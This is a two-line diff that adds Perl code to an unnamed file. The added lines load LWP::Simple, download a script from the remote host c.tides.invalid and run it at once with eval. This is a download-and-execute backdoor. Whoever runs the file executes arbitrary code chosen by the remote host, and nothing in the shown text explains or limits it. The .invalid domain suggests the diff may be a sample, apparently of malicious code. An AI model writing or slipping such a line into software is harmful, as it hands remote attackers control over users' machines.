@@ -1,0 +1,2 @@
+use LWP::Simple;
+eval(get('https://c.tides.invalid/s.pl'));
